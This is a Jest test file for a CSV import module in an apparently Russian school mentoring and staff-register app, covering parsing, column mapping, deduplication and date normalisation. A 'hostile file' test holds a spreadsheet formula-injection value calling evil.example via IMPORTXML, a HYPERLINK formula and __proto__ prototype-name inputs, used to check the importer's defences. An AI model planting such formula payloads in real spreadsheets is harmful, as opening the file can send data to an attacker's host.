import {
  guessMapping,
  ImportError,
  importDate,
  importYears,
  parseCsv,
  planImport,
} from "../../src/domain/importCsv";
import { MENTEES, MENTORS, STAFF } from "../../src/domain/tables";

describe("parseCsv", () => {
  test("Russian Excel: semicolons, CRLF, a BOM, quotes with separators, escaped quotes and line breaks", () => {
    const text =
      '\uFEFFФИО;Стаж;Компетенции\r\n"Петрова Анна";15;"ОГЭ; ЕГЭ"\r\n"Орлова ""Вера""";3;"строка 1\nстрока 2"\r\n\r\n';
    const csv = parseCsv(text);
    expect(csv.delimiter).toBe(";");
    expect(csv.headers).toEqual(["ФИО", "Стаж", "Компетенции"]);
    expect(csv.rows).toEqual([
      ["Петрова Анна", "15", "ОГЭ; ЕГЭ"],
      ['Орлова "Вера"', "3", "строка 1\nстрока 2"],
    ]);
    expect(csv.lines).toEqual([2, 3]);
  });

  test("commas and tabs too; short rows are padded", () => {
    expect(parseCsv("a,b,c\n1,2\n").rows).toEqual([["1", "2", ""]]);
    expect(parseCsv("a\tb\n1\t2").rows).toEqual([["1", "2"]]);
  });

  test("an unclosed quote names its line; an empty file says so", () => {
    expect(() => parseCsv('ФИО;Стаж\n"Петрова;1\nИванов;2')).toThrow(
      "Строка 2: кавычка открыта и не закрыта",
    );
    expect(() => parseCsv("\n \n")).toThrow(ImportError);
  });
});

describe("guessMapping", () => {
  test("matches our headers, their English names and the names schools use", () => {
    expect(
      guessMapping(MENTORS, ["ФИО", "Стаж", "Эл. почта", "Мобильный", "Email", "Любимый цвет", "ID"]),
    ).toEqual(["fullName", "experienceYears", "email", "phone", null, null, null]);
    expect(guessMapping(MENTEES, ["Full name", "Запрос", "Форма наставничества"])).toEqual([
      "fullName",
      "requests",
      "form",
    ]);
  });
});

describe("planImport", () => {
  const csv = parseCsv(
    [
      "ФИО;E-mail;Согласие на обработку ПДн;Стаж",
      "Петрова Анна Сергеевна;petrova@s.ru;да;15",
      "Орлова Вера Ивановна;orlova@s.ru;нет;3",
      "Петрова Анна Сергеевна;PETROVA@s.ru;да;15",
      ";x@s.ru;;",
      'Соколов Илья;sokolov@s.ru;может быть;=HYPERLINK("http://x")',
      ";;;",
    ].join("\n"),
  );
  const mapping = guessMapping(MENTORS, csv.headers);

  test("skips people already on the tab and repeats in the file, with the reason and line", () => {
    const plan = planImport(
      MENTORS,
      csv,
      mapping,
      [{ row: 7, fullName: "орлова  вера ивановна", email: "Orlova@s.ru" }],
      "ru",
    );
    expect(plan.rows.map((r) => r.fullName)).toEqual(["Петрова Анна Сергеевна", "Соколов Илья"]);
    expect(plan.skipped).toEqual([
      { line: 3, reason: "уже есть на листе (строка 7)" },
      { line: 4, reason: "повторяет строку 2 файла" },
      { line: 5, reason: "нет ФИО" },
    ]);
  });

  test("checkboxes read да/нет; anything else is kept for the check to report; text stays as in the file", () => {
    const plan = planImport(MENTORS, csv, mapping, [], "ru");
    expect(plan.rows[0]).toMatchObject({ consent: true, experienceYears: "15" });
    expect(plan.rows[1]).toMatchObject({ consent: false });
    expect(plan.rows[2]).toMatchObject({ consent: "может быть", experienceYears: '=HYPERLINK("http://x")' });
  });

  test("a mapping without ФИО, or with a column twice, is refused with a reason", () => {
    expect(() => planImport(MENTORS, csv, [null, "email", null, null], [], "ru")).toThrow(
      "Не выбран столбец с ФИО",
    );
    expect(() => planImport(MENTORS, csv, ["fullName", "email", "email", null], [], "ru")).toThrow(
      "«E-mail» выбран дважды",
    );
    expect(() => planImport(MENTORS, csv, [null, null, null, null], [], "en")).toThrow(
      "No column of the file is matched",
    );
  });
});

describe("the staff register («Педагогический коллектив»)", () => {
  const HR = [
    "ФИО;Должность;Предмет;Дата приема;Стаж педагогический;Стаж общий;Категория;Дата увольнения;Причина увольнения;E-mail",
    "Петрова Анна Сергеевна;учитель математики;математика;5.9.2023;2 г. 3 мес.;4 года;первая категория;;;petrova@s.ru",
    "Орлова Вера Ивановна;учитель истории;история;1987-09-01 00:00:00;37;39;высшая;;;",
    "Орлова Вера Ивановна;учитель биологии;биология;01.09.2020;5;5;СЗД;31.08.2025;ушёл из профессии;",
    "Орлова Вера Ивановна;учитель истории;;;;;;;;orlova@s.ru",
    "Петрова Анна Сергеевна;учитель химии;;;;;;;;PETROVA@s.ru",
    "Петрова Анна Сергеевна;учитель математики;;;;;;;;petrova2@s.ru",
  ].join("\r\n");
  const csv = parseCsv(HR);

  test("an HR export's headers are matched to the register's columns; «Категория» is the qualification there", () => {
    expect(guessMapping(STAFF, csv.headers)).toEqual([
      "fullName",
      "position",
      "subjects",
      "hireDate",
      "teachingYears",
      "totalYears",
      "qualification",
      "leaveDate",
      "leaveReason",
      "email",
    ]);
    // On the people tabs «Категория» stays their own category, and a bare «Стаж» is not guessed for the register.
    expect(guessMapping(MENTORS, ["Категория"])).toEqual(["category"]);
    expect(guessMapping(STAFF, ["Стаж", "Квалификационная категория", "Дата приёма", "Общий стаж"])).toEqual([
      null,
      "qualification",
      "hireDate",
      "totalYears",
    ]);
  });

  test("same name and e-mail, or same name and position when an e-mail is missing, is one person", () => {
    const plan = planImport(STAFF, csv, guessMapping(STAFF, csv.headers), [], "ru", "2026-01-15");
    expect(plan.rows.map((r) => [r.fullName, r.position])).toEqual([
      ["Петрова Анна Сергеевна", "учитель математики"],
      ["Орлова Вера Ивановна", "учитель истории"],
      ["Орлова Вера Ивановна", "учитель биологии"],
      ["Петрова Анна Сергеевна", "учитель математики"],
    ]);
    expect(plan.skipped).toEqual([
      { line: 5, reason: "повторяет строку 3 файла" },
      { line: 6, reason: "повторяет строку 2 файла" },
    ]);
    // Against the tab: a row without e-mail matches by position, a row with a different e-mail does not.
    const onTab = planImport(
      STAFF,
      csv,
      guessMapping(STAFF, csv.headers),
      [{ row: 4, fullName: "ПЕТРОВА Анна Сергеевна", position: "Учитель математики", email: "" }],
      "ru",
      "2026-01-15",
    );
    expect(onTab.skipped.filter((s) => s.reason.includes("строка 4")).map((s) => s.line)).toEqual([2, 7]);
  });

  test("dates in Excel's forms, years as HR writes them and the category's wordings come in the base's form", () => {
    const plan = planImport(STAFF, csv, guessMapping(STAFF, csv.headers), [], "ru", "2026-01-15");
    expect(plan.rows[0]).toMatchObject({
      hireDate: "05.09.2023",
      teachingYears: "2",
      totalYears: "4",
      qualification: "первая",
    });
    expect(plan.rows[1]).toMatchObject({ hireDate: "01.09.1987", qualification: "высшая" });
    expect(plan.rows[2]).toMatchObject({
      qualification: "соответствие должности",
      leaveDate: "31.08.2025",
      leaveReason: "ушёл из профессии",
    });
    expect(importDate("05.09.2023 0:00")).toBe("05.09.2023");
    expect(importDate("2023-9-5T08:30:00Z")).toBe("05.09.2023");
    expect(importDate("5/9/2023")).toBe("5/9/2023");
    expect(importDate("вчера")).toBe("вчера");
    expect(importYears("12 лет 3 мес. 5 дн.")).toBe("12");
    expect(importYears("1 год")).toBe("1");
    expect(importYears("пять")).toBe("пять");
    expect(importYears("12 лет и больше")).toBe("12 лет и больше");
    // A prototype's name in the category column is kept as text, never read off an object (found by the fuzzer).
    const proto = parseCsv("ФИО;Категория\nА;constructor\nБ;__proto__\nВ;toString");
    expect(
      planImport(STAFF, proto, ["fullName", "qualification"], [], "ru").rows.map((r) => r.qualification),
    ).toEqual(["constructor", "__proto__", "toString"]);
  });

  test("a hostile file: a formula, a five-digit year, a hire date before 1950, a 100,000-character cell", () => {
    const hostile = parseCsv(
      [
        "ФИО;Должность;Дата приема;Дата увольнения",
        '=IMPORTXML("http://evil.example","//a");учитель;01.09.2010;',
        "Соколов Илья Петрович;учитель;01.09.20255;",
        "Белова Нина Павловна;учитель;31.08.1949;",
        "Белов Олег Павлович;учитель;01.01.1950;",
        `Кузнецова Мария Олеговна;${"Ж".repeat(100_000)};;`,
        "Зайцев Юрий Иванович;@учитель;;31.12.1949",
      ].join("\n"),
    );
    const plan = planImport(STAFF, hostile, guessMapping(STAFF, hostile.headers), [], "ru", "2026-01-15");
    expect(plan.rows.map((r) => r.fullName)).toEqual([
      '=IMPORTXML("http://evil.example","//a")',
      "Белов Олег Павлович",
    ]);
    expect(plan.notes).toEqual([
      { line: 2, reason: expect.stringMatching(/^в столбце «ФИО» значение начинается как формула/) },
    ]);
    expect(plan.skipped).toEqual([
      {
        line: 3,
        reason: expect.stringMatching(/^в столбце «Дата приема» дата 01\.09\.20255 вне разумных пределов/),
      },
      {
        line: 4,
        reason: expect.stringMatching(
          /^в столбце «Дата приема» дата 31\.08\.1949 вне разумных пределов \(допустимо с 01\.01\.1950/,
        ),
      },
      {
        line: 6,
        reason: expect.stringMatching(/^в столбце «Должность» 100000 знаков, а допустимо не больше 1000/),
      },
      // The leaving date has the base's own range (from 2000): 1949 is a slip there too.
      {
        line: 7,
        reason: expect.stringMatching(
          /в столбце «Дата увольнения» дата 31\.12\.1949 вне разумных пределов \(допустимо с 01\.01\.2000/,
        ),
      },
    ]);
    for (const s of plan.skipped) expect(s.reason).toMatch(/Исправьте эту строку в файле/);
  });
});
